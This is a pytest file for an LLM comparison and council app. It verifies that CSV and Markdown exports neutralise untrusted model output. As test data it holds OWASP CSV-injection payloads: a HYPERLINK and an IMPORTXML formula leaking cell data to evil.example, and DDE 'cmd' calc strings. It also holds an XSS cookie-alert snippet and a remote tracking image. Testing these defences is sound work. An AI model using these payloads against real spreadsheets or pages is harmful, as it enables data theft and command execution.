"""Every file the app hands out treats a model's answer and a pasted prompt as untrusted: no CSV cell a
spreadsheet would run as a formula (OWASP "CSV Injection"), no Markdown a viewer would render as HTML
or as a remote image. Fed the OWASP payloads through real runs on the loopback fakes."""

from __future__ import annotations

import csv
import io
import json
import random

import pytest
from markdown_it import MarkdownIt

from adapters import GenerationParams
from council.runs import compare, deliberation, exports
from council.runs.compare import SlotRun, SlotSpec
from council.runs.deliberation import Context, Member
from council.runs.providers import Connection
from council.runs.records import Transcript
from council.runs.resilience import RetryLayer
from council.settings import RetrySettings
from council.untrusted import FORMULA_STARTS, code_fence, code_span, csv_cell, markdown_inline
from tests.fakes import hf_server, openai_server

# OWASP's CSV Injection examples, and the exfiltration the issue names
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1&B1, "details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
)
HTML = '<img src=x onerror="alert(1)"><script>alert(document.cookie)</script>'
REMOTE_IMAGE = "![tracker](http://evil.example/pixel.png)"
KEYS = {"huggingface": "hf_ExportCanary0123456789abcdef", "openai": "sk-ExportCanary0123456789abcdef"}


@pytest.fixture
def remote(monkeypatch, hf_env, fake_openai) -> Connection:
    monkeypatch.setenv("OPENAI_BASE_URL", fake_openai.url + "/v1")
    return Connection(tokens=dict(KEYS), base_urls={}, visitor_is_local=True)


def assert_no_live_formula(document: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(document)))
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    return rows


def assert_no_html_or_remote_image(document: str) -> None:
    """Parsed as a viewer would (HTML on): nothing it would render as HTML, no image it would fetch."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(document)
    for token in tokens:
        assert token.type not in ("html_block", "html_inline"), token.content
        for child in token.children or []:
            assert child.type not in ("html_inline", "image"), child.content


def answers(words: str, model: str):
    return openai_server.chat_stream(model, [words])


async def test_a_comparison_exports_no_formula_and_no_html(remote, hf_env, fake_openai):
    prompt, system = PAYLOADS[0], PAYLOADS[3] + " " + HTML
    specs = [
        SlotSpec("huggingface", "fake/echo", "chat", GenerationParams(stop=["`x`", PAYLOADS[1]])),
        SlotSpec("openai", "gpt-4o-mini", "chat", GenerationParams()),
        SlotSpec("huggingface", "fake/missing", "chat", GenerationParams()),
    ]
    hf_env.enqueue("chat", hf_server.chat_stream("fake/echo", [PAYLOADS[2], " ", HTML, " ", REMOTE_IMAGE]))
    fake_openai.enqueue("chat", answers(PAYLOADS[4] + "\n```\n" + HTML + "\n````", "gpt-4o-mini"))
    messages = compare.messages_for(prompt, system)
    runs = [SlotRun(compare.targets_for(spec, remote, messages), RetryLayer(RetrySettings(1, 5.0)), lambda _: None) for spec in specs]
    results = await compare.fan_out(runs)
    slots = [compare.slot_record(i, spec, result) for i, (spec, result) in enumerate(zip(specs, results, strict=True))]
    rec = compare.record(prompt, system, slots, blind=False)
    assert slots[0].answer.text.startswith(PAYLOADS[2]) and slots[1].answer.text.startswith(PAYLOADS[4]) and slots[2].answer.error
    rec.slots[2].answer.error["message"] = PAYLOADS[5] + HTML  # a provider's words may end up in a message too
    rec.vote = {"outcome_words": PAYLOADS[6] + HTML}

    rows = assert_no_live_formula(exports.comparison_csv(rec))
    assert rows[0]["prompt"] == "'" + PAYLOADS[0] and rows[0]["system"].startswith("'" + PAYLOADS[3])
    assert rows[0]["output"].startswith("'" + PAYLOADS[2]) and rows[1]["output"].startswith("'" + PAYLOADS[4])
    assert rows[2]["error"] and not rows[2]["output"]
    assert float(rows[0]["latency_s"]) >= 0 and rows[0]["prompt_tokens"].isdigit()  # numbers stay numbers

    markdown = exports.comparison_markdown(rec)
    assert_no_html_or_remote_image(markdown)
    assert PAYLOADS[2] in markdown  # an answer is kept verbatim, inside a code block it cannot close
    assert json.loads(exports.comparison_json(rec))["slots"][0]["output"] == slots[0].answer.text  # JSON holds data as it is


async def test_a_council_transcript_exports_no_html(remote, hf_env):
    members = [Member("huggingface", "fake/echo"), Member("openai", "gpt-4o-mini")]
    question = PAYLOADS[0] + "\n" + HTML + "\n" + REMOTE_IMAGE
    ctx = Context(remote, fallback_order=(), settings=RetrySettings(3, 5.0), rng=random.Random(7))
    transcript = await deliberation.deliberate(question, "general", "fast", members, members[1], ctx)
    t = transcript.to_dict()
    assert t["stage1"] and t["final"]
    for entry in t["stage1"]:
        entry["text"] = f"{PAYLOADS[1]}\n\n{HTML}\n\n{REMOTE_IMAGE}\n\n<div>\nraw block\n</div>"
    for review in t["stage2"]:
        review["reasons"] = {label: PAYLOADS[2] + HTML for label in review["order"]}
    t["final"]["text"] = f"{HTML}\n\n`{HTML}` is escaped only outside code\n\n{REMOTE_IMAGE}"
    t["final"]["note"] = HTML
    t["members"][0]["persona"] = HTML
    transcript = Transcript.from_dict(t)

    markdown = exports.transcript_markdown(transcript)
    assert_no_html_or_remote_image(markdown)
    assert f"`{HTML}`" in markdown  # code is shown as written
    assert "alert(document.cookie)" in markdown  # the text is kept, as text
    assert json.loads(exports.transcript_json(transcript))["question"] == question


def test_one_function_neutralises_every_cell():
    for payload in PAYLOADS:
        assert csv_cell(payload) == "'" + payload
    assert csv_cell("plain text") == "plain text" and csv_cell(" =1") == " =1"
    assert csv_cell(0.25) == 0.25 and csv_cell(3) == 3 and csv_cell(None) == "" and csv_cell(True) == "true"


def test_code_blocks_and_cells_cannot_be_closed_from_inside():
    fenced = code_fence("a ```` b")
    assert fenced.startswith("`````text\n") and fenced.endswith("\n`````")
    assert code_span("x``y") == "```x``y```" and code_span("`edge") == "`` `edge ``"
    assert markdown_inline("a | b\nc") == "a \\| b c"


def test_no_table_offers_a_download_of_its_own():
    """A table may hold a model's answer: Streamlit's own "Download as CSV" would write it unneutralised, so it is off
    and every download is one of the app's formula-safe exports."""
    import tomllib
    from pathlib import Path

    config = tomllib.loads((Path(__file__).resolve().parents[1] / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
